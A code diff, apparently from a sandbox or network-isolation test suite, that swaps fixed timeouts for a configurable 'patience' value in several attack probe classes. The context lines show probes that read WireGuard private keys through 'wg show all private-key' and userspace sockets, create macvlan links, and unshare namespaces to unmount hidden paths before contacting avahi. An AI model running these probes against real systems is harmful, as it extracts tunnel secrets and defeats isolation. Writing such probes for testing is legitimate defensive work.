@@ -112,7 +112,7 @@ class MacvlanByNumber(Attack):
                 try:
                     _netlink.number_namespace(path, number)
                     _netlink.macvlan(link, index, number)
-                    _tools.run(["ip", "link", "set", link, "up"], 1)
+                    _tools.run(["ip", "link", "set", link, "up"], env.patience)
                     _broadcast(link, _tools.payload(env))
                 except OSError as error:
                     said.append(f"{path} {index}: {error.strerror or error}")
@@ -141,11 +141,11 @@ class TunnelKey(Attack):
     def run(self, env: Env) -> Outcome:
         names = [path.name for path in Path("/run/netns").glob("*")] if Path("/run/netns").exists() else []
         for prefix in ([], *(["ip", "netns", "exec", name] for name in names)):
-            _, said = _tools.run([*prefix, "wg", "show", "all", "private-key"], 1)
+            _, said = _tools.run([*prefix, "wg", "show", "all", "private-key"], env.patience)
             if said.endswith("=") and "(none)" not in said:
                 return Outcome(True, f"wg shows a key of {said.split()[0]}")
         for path in Path("/run/wireguard").glob("*.sock"):
-            with connected(str(path)) as userspace:
+            with connected(str(path), patience=env.patience) as userspace:
                 userspace.sendall(b"get=1\n\n")
                 if b"private_key=" in userspace.recv(4096):
                     return Outcome(True, f"{path} gave a key")
@@ -202,7 +202,7 @@ class Uncovered(WithStandins):
         made = libc.unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0
         libc.mount(None, b"/", None, MS_REC | MS_PRIVATE, None)
         taken = [path for path in HIDING if made and _unmounted(libc, path)]
-        with connected("/run/avahi-daemon/socket") as daemon:
+        with connected("/run/avahi-daemon/socket", patience=env.patience) as daemon:
             daemon.sendall(_tools.payload(env))
             return Outcome(bool(daemon.recv(200)), f"avahi answers, after unmounting {' '.join(taken) or 'nothing'}")
 
